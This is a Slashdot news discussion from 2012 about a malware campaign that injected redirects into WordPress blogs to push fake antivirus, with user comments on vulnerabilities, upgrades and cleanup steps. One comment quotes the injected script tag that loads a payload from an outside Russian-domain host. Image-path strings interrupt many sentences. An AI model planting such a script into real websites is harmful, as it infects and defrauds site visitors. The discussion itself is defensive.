Want to read Slashdot from your mobile device? Point it at m.slashdot.org and keep reading!


Forgot your password?
Security News

30K WordPress Blogs Infected With the Latest Malware Scam 104

alphadogg writes with an excerpt from an article over at Network World: "Almost 30,000 WordPress blogs have been infected in a new wave of attacks orchestrated by a cybercriminal gang whose primary goal is to distribute rogue antivirus software, researchers from security firm Websense say. The attacks have resulted in over 200,000 infected pages that redirect users to websites displaying fake antivirus scans. The latest compromises are part of a rogue antivirus distribution campaign that has been going on for months, the Websense researchers said."
This discussion has been archived. No new comments can be posted.30K WordPress Blogs Infected With the Latest Malware Scam

Comments Filter:
  • McAfee? (Score:5, Funny)

    by Oswald McWeany ( 2428506 ) on Wednesday March 07, 2012 @12:00PM (#39275373)

    websites displaying fake antivirus scans

    I didn't know McAfee had started targeting Web blogs now.

    • Re:McAfee? (Score:4, Informative)by tepples ( 727027 ) <tepples@NOSpAM.gmail.com> on Wednesday March 07, 2012 @12:02PM (#39275389) Homepage Journal
      It might be hard to believe, but there are antivirus companies even less scrupulous than McAfee and Norton. Wikipedia explains [wikipedia.org].
      • by Ihmhi ( 1206036 )

        Selectively disabling parts of the system to prevent the user from uninstalling the malware. Some may also prevent anti-malware programs from running, disable automatic system software updates and block access to websites of anti-malware vendors.

        I dunno, sounds like Norton to me.

        • At least Norton tries to providea working removal tool[symantec.com] at no charge. The only problem I've found is that it's made deliberately inaccessible to blind users (with a CAPTCHA) so that malware doesn't automatically run it on every computer that it tries to infect.
        • Oh Lord, please don't say that name! Poor Jim is still rocking himself in the corner going "It just won't uninstall! Why won't it uninstall? It just won't go away" after the last wave of Norton infected laptops came through and we have finally got his mumbling quieted down, please don't give Jim a flashback!

          As for TFA this is why I recommend the combo of Win 7 with either Avast or Comodo IS along with Comodo Dragon with ABP. Windows 7 has DEP and ASLR along with UAC and Comodo Dragon is able to take advanta

  • Analysis (Score:4, Insightful)

    by SirDice ( 1548907 ) on Wednesday March 07, 2012 @12:07PM (#39275443)
    Why do they always focus on the crap that's left behind when they analyses these things? I want to know how they managed to get that stuff on those servers so I can check my own. Was is an old and vulnerable WordPress or was it some 0-day they used? For some reason they always focus on the effects and not on the causes.
  • Is it just a popularity/contrast thing, or does wordpress seem to be popping up a lot recently for security holes in their web servers?• by Spad ( 470073 )

      At a guess, the ratio of Installs to Unpatched/Insecure Installs, both of the core WP software and its many, many 3rd party plugins and themes.

      A *lot* of sites are either running old versions of software or have plugins/themes with gaping vulnerabilities that are no longer under active development.

      • Re:wordpress, again? (Score:5, Interesting)

        by gmack ( 197796 ) <[gmack] [at] [innerfire.net]> on Wednesday March 07, 2012 @12:24PM (#39275647) Homepage Journal

        Some of that is Wordpress' fault for not having an easy way to run mass upgrades. My employer has 15 different sites running on Wordpress and the fact that I have to log in to each one manually after upgrading the files and click a link to handle the database update is annoying.• by Anonymous Coward

          Set up WP MultiSite, update one site and one set of plugins and be done with it - easy as that...

        • Re:wordpress, again? (Score:4, Informative)

          by nick.sideras ( 836787 ) on Wednesday March 07, 2012 @12:41PM (#39275879)

          Some of that is Wordpress' fault for not having an easy way to run mass upgrades. My employer has 15 different sites running on Wordpress and the fact that I have to log in to each one manually after upgrading the files and click a linkto handle the database update is annoying.

          This drove me nuts at my current job for about 2 months - you need Wordpress Network [wordpress.org].

          There's the easy way and the hard(er) way to do this:

          This [wordpress.org] is the official easy way, but it's never worked for me (last tried in Spring of 2011). The nice thing is that it's all stuff built into WordPress, so you should be able to do it without any problems. I'd say it's probably worth giving this a try with one site, and if it works, run with it.

          This [bavatuesdays.com] is more down and dirty way that will definitely work, and is more or less how I did it. A little SQL editing never hurt anyone.
          Also, this [sillybean.net] is a great companion to the bavatuesdays link. He goes on about his DNS in the first few paragraphs, but the second half of that post has some good details about where files need to be, and how links and such need to be updated.

          Once you have a network, you a fantastic "Update Network [wordpress.org]" button. Boom. Take the rest of the day off.

        • Agreed! At least you onlyhave 15, I've just been given the task of managing our Wordpress implementation, we're at 144. *Ugh*
        • WordPress is extremely easy and quick to update. You can click a single button and update every single plugin and theme, or another button to updatecore. That's it. If you're upgrading by manually uploading files to a bunch of different servers for some reason, you should at least look into something like updating with Subversion [wordpress.org] or using multisite and just updating once for every site.

        • by Hatta ( 162192 )

          You can't automatically log into a website and click a link with a very small shell script?

        • Seriously? It's a hassle to have to log into each server and click a link?

          You must never have run Gentoo*...*Which is still my favorite distro, despite occasionally being a real PITA to update.
          • by gmack ( 197796 )

            I used to love hand compiling everything but then I got my first full time sysadmin job. The job came with 20 servers and thankfully 15 of them ran Debian. When you have to do something repeatedly it gets old quickly so now I want the OS to do as much as possible and scriptmost of the rest.

            •LOL. I've been a full time sys admin for ten years -- first with Solaris and FreeBSD servers, then in my current job with about 15 or so Gentoo (!) servers plus my laptop and a desktop. We migrated to Ubuntu about three years ago. In all honesty, we do a much better job of updating the Ubuntu servers than we did the Gentoo servers because it is so much easier to do, but I am starting to loathe my Ubuntu laptop. It's a lot easier to get wireless working in Ubuntu than Gentoo, but Unity, nVidia drivers*,
              • by gmack ( 197796 )

                I gave up on the new Ubuntu pretty quickly while installing a friend's notebook last month and ended up installing debian + xfce + wicd. No complaints from him at all.

                For servers, it's hard to beat debian + dotdeb repo.

        • by mattrad ( 78969 )

          Well my clicking-averse friend, you need managewp.com. One login and a click or two, and you've updated all those 15 installs. Either that or migrate everything to multisite (Backup Buddy is great for that).

        • You mean "the fact that I have missed to write some working update/deployment script is annoying"? Come on - it's not that hard. Just rsync anything but wp-content. Make sure they all have the same plugins installed but not necessarily activated and sync the plugins folder, too. That's for starters. The elegant way involves delivering images and "uploads" from a CDN and simply unpacking the new versions over the old ones by rsync, ftp or wget...
    • I personally think it's mostly a popularity thing, sinceWordPress pretty much owns the blog market. I think the other problem, however, is just with how simple they've made it to accidentally backdoor your site. There are thousands of plugins for WordPress, installable with just a couple of clicks, written by people who know nothing about security, or have possibly even maliciously left holes in their plugin. Unlike large projects that are generally maintained and reviewed by dozens of people, a plugin

  • by dgharmon ( 2564621 ) on Wednesday March 07, 2012 @12:13PM (#39275529) Homepage
    "The Websense ThreatSeeker Network has detected a new wave of mass-injections [websense.com] of a well-known rogue antivirus campaign"

    How exactly are these sites infected in the first place?

    "The page looks like a Windows Explorer [websense.com] window with a "Windows Security Alert" dialogue box in it"

    Ahh so - nothing to read here ... moving on ...
    • by Pope ( 17780 )

      I used to get those all the time on my Mac and just laugh. Then they made a special OS X-looking one.

    • A number of years ago, I encountered a fake Microsoft security warning while using my Linux computer. It said that Microsoft had detected viruses and spyware on my computer. This was on a Linux computer that did not have any Microsoft products installed on it.

      It offered to do a free online scan of my hard drive. Despite clicking on No, a progress bar appeared as it started to do a fake scan of my hard drive. After about 60 seconds, it said that it had finished scanning my drive C. It then said that several

    • by klui ( 457783 )
      So looks like the injected code
      </DIV> <!-- END body-wrapper -->
      <script src="http://ionis90landsi.rr.ru/mm.php?=1"></script>

      would be take care of with NoScript as long as your white list is short and doesn't contain rr.nu in this example.
  • by Dynamoo ( 527749 ) on Wednesday March 07, 2012 @12:14PM (#39275539) Homepage
    Itlooks like the first step in the infection is via an IP (belonging to Specialist ISP of Transnistria [wikipedia.org]. That has featured before on Slashdot in this story [slashdot.org].

    The block is simply all evil (I've documented it here [dynamoo.com] in the past), there's no reason to send traffic to it at all, blocking it is a good option.

    • by gaspyy ( 514539 )

      Transnistria is basically a haven for organized crime. A "republic" with virtually no international recognition, a very small economy and ties with international arm dealers.

      • by Dynamoo ( 527749 )
        Exactly. It's a country that doesn't exist in the eyes of most other countries, which makes it beyond the reach of international law enforcement. There are other countries in the world like that, the difference with Transnistria is that it has a somewhat modern infrastructure.
  • by Opportunist ( 166417 ) on Wednesday March 07, 2012 @12:17PM (#39275557)

    Why bother using 0day exploits and payload droppers when the best infector is sitting right in front of the PC?

  • Anyone else continuing to have a problem when you type your password that it shows instead of ******? My password is ilikegirrlz See, it did it again!
    • by Anonymous Coward

      Now get off my lawn!

  • by dgrotto ( 2588895 ) on Wednesday March 07, 2012 @01:45PM (#39276675)

    Most of my WP installs were infected because I am a slack ass. Here are the highlevel steps I took to solve the problem:

    • 1) Backup sites.
    • 2) Fix all world-writable directories in your WP install (what the hell WP?!). This seems to be the primary vector for getting in.
    • 3) Clean up infected PHP files with this script from php-beginners.com [php-beginners.com]. Thank you Paolo.
    • 4) Inspect all .htaccess configs for errant redirects and fix.
    • 5) Install and run the timthumb vulnerability scanner [wordpress.org]. Possible secondary vector. Thank you Peter Butler!
    • 6) Update your WP install to latest and greatest.
    • 7) Remove any unused plugins and themes.
    • 8) Backup sites.I may be missing something - again, I'm a slackass. Anyone else have other advice for our admin-challenged friends besides "get a real software package"?

    By the way, I was trying to lock down one of my WP installs to only allow authed users access to posts. However, WP does not put the assets for post - usually in wp-content/uploads - behind the auth wall. It's just out there for the whole world to see. It was a simple fix to rewrite the .htaccess config for this directory to redirect to an auth script, but still it still shocks me how insecure this app is.

    • Forgot one thing:

      The hack puts a list of sites to redirect to in a .logs directory. rm these.

  • by ThatsNotPudding ( 1045640 ) on Wednesday March 07, 2012 @02:27PM (#39277193)
    BTW: why is Adobe allowed to - by default - check the box on their flash updates to also install Norton on the victims computer? How many trusting civilians (think: grandmothers) end up with borked computers with conflicting AV programs solely due to corporate greed? I'm willing to bet this check box (if it even appears) is NOT checked by default in the EU market. Man, I miss government FOR the people...
  • And I was looking for a blog hoster this week, and specifically at WordPress. Anyone got a list of free blog hosters (moving away fromblogspot)?

  • Any idea which versions of Wordpress is being targeted and/or whichvulnerability? The quoted articles look more likecommercials for Websense.

This login session: $13.76, but for you $11.88.